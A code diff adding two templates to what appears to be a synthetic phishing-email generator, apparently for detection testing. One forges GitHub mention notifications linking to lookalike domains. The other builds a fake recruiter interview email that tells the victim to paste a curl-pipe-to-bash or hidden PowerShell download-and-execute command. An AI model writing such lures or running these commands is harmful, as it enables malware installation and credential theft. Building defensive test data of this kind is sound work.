@@ -315,6 +315,89 @@ export const MORE_PHISHING: Template[] = [
       };
     },
   },
+  {
+    name: 'github-issue-mention-abuse',
+    kind: 'code-host-notification-abuse',
+    write: (s) => {
+      const repo = s.repo();
+      const n = s.int(300, 4200);
+      const host = s.lookalike(s.pick(['github', 'gh-security', 'githubapp']));
+      const opener = s.pick([
+        'security-notice-bot',
+        'gh-advisory-team',
+        'dependabot-alerts',
+        'github-jobs-hr',
+      ]);
+      const [title, body] = s.pick([
+        [
+          'Security Alert: unusual access attempt',
+          `We have detected a suspicious attempt to access your account. Review your recent activity and secure your account: https://${host}${s.path('security')}`,
+        ],
+        [
+          'Job opportunity at GitHub',
+          `Hey there! GitHub is hiring. Your contributions qualify you for an engineering role with a salary of $${s.int(180, 240)},000. Apply through our careers page: https://${host}${s.path('careers')}`,
+        ],
+        [
+          'Your repository violates the terms of service',
+          `Your repository will be removed in 24 hours. To appeal, authorize the GitHub Appeals app: https://${host}${s.path('appeal')}`,
+        ],
+      ] as const);
+      return {
+        from: mailbox(opener, 'notifications@github.com'),
+        auth: passes('github.com'),
+        replyTo: `${ORG_SLUG}/${repo} <reply+${s.hex(40).toUpperCase()}@reply.github.com>`,
+        headers: [
+          `List-ID: ${ORG_SLUG}/${repo} <${repo}.${ORG_SLUG}.github.com>`,
+          'X-GitHub-Reason: mention',
+        ],
+        subject: `[${ORG_SLUG}/${repo}] ${title} (Issue #${n})`,
+        blocks: [
+          `${body}\n\n${Array.from({ length: s.int(6, 14) }, () => `@${s.token(s.int(5, 9))}`).join(' ')} @${s.handle(s.victim)}`,
+          '—\nReply to this email directly, view it on GitHub:',
+          {
+            link: `https://github.com/${ORG_SLUG}/${repo}/issues/${n}`,
+            href: `https://github.com/${ORG_SLUG}/${repo}/issues/${n}`,
+          },
+          'You are receiving this because you were mentioned.',
+        ],
+        form: s.pick(['text', 'both'] as const),
+      };
+    },
+  },
+  {
+    name: 'interview-camera-fix',
+    kind: 'fake-interview-command',
+    write: (s) => {
+      const firm = s.pick(['Quantix Labs', 'Solvane Exchange', 'Meridian Chain', 'Kairo Finance']);
+      const domain = s.firmDomain(firm);
+      const meet = `meet.${s.throwaway()}`;
+      const recruiter = s.pick(['Laura Chen', 'Marcus Reid', 'Elena Voss']);
+      const mac = s.chance(0.5);
+      return {
+        from: mailbox(recruiter, `${recruiter.split(' ')[0].toLowerCase()}@${domain}`),
+        auth: passes(domain),
+        subject: s.pick([
+          `Interview with ${firm} - video link`,
+          `${firm}: your technical interview today`,
+          'Re: interview - camera not working?',
+        ]),
+        blocks: [
+          s.greeting(),
+          `Thank you for joining the interview with our CTO. Here is the link to our video platform: https://${meet}/room/${s.token(8)}`,
+          s.pick([
+            'Several candidates had trouble with their camera or microphone on our platform. If you see the "camera access error", run the fix below before joining:',
+            'Our platform needs a driver update for screen sharing. It takes a few seconds; copy the command into your terminal:',
+          ]),
+          {
+            code: mac
+              ? `curl -fsSL https://${meet}/fix/camera.sh | bash`
+              : `powershell -w hidden -c "iwr https://${meet}/fix/driver.ps1 | iex"`,
+          },
+          `See you soon,\n${recruiter}\n${firm}`,
+        ],
+      };
+    },
+  },
 ];
 
 export const LOCAL_PHISHING: Template[] = [
